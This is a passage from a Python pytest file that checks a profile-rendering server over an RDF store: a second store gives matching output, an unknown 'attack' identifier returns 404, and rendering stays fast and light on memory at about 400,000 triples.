    with running(request.param, tmp_path_factory.mktemp("elsewhere") / "data") as other:
        server = Server("--content", str(TINY), **environ(other))
        end = time.monotonic() + 60
        while server.client.get("/readyz").status_code != 200:
            assert time.monotonic() < end
            time.sleep(0.2)
        yield server.client
        assert server.stop() == 0


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.later
def test_another_store_tells_the_same(name: str, elsewhere: httpx.Client, tiny_store: Embedded, tiny: Content) -> None:
    one = elsewhere.get(f"/profiles/{name}", params={"attack": "north-camp"})
    assert one.status_code == 200, one.text
    assert one.content == told(tiny_store, tiny, name, attack="north-camp")
    assert elsewhere.get(f"/profiles/{name}").content == told(tiny_store, tiny, name)


def test_another_store_knows_no_other_attack(elsewhere: httpx.Client) -> None:
    problem(elsewhere.get("/profiles/stix", params={"attack": "nowhere"}), 404)


# -- at size


@pytest.mark.slow
def test_one_attack_among_many_stays_quick_and_all_of_them_stay_small(tiny_store: Embedded, tiny: Content) -> None:
    """400,000 triples: a profile of one attack does not read them all, and a profile of all does not hold them."""
    lines = [str(q) for q in tiny_store.quads(None) if "/graph/codes" not in str(q.graph_name)]
    own = re.compile(rf"(<{ID}(?:event|report|statement|proposition|passage|question)/)([\w.-]+)>")
    many = filled(tiny)
    for copy in range(1500):
        made = "\n".join(own.sub(rf"\g<1>\g<2>-{copy}>", line) + " ." for line in lines)
        many.engine.bulk_load(made.encode(), format=ox.RdfFormat.N_QUADS)
    print(f"{len(many.engine)} triples")
    for name in NAMES:
        begun = time.monotonic()
        one = told(many, tiny, name, attack="north-camp-7")
        took = time.monotonic() - begun
        assert one
        print(f"{name}: one attack {took:.2f} s, {len(one)} bytes")
    tracemalloc.start()
    profile, out = read(tiny, "prov"), _Counted()
    render.write(many, tiny, render.Asked(profile, FORMS["nt"]), out)  # type: ignore[arg-type]
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    print(f"prov: all {out.size} bytes, at most {peak} held")
    assert peak < out.size / 2


class _Counted:
    """A file that holds nothing of what is written to it."""

    size = 0

    def write(self, data: bytes) -> int:
        self.size += len(data)
        return len(data)

    def flush(self) -> None: ...
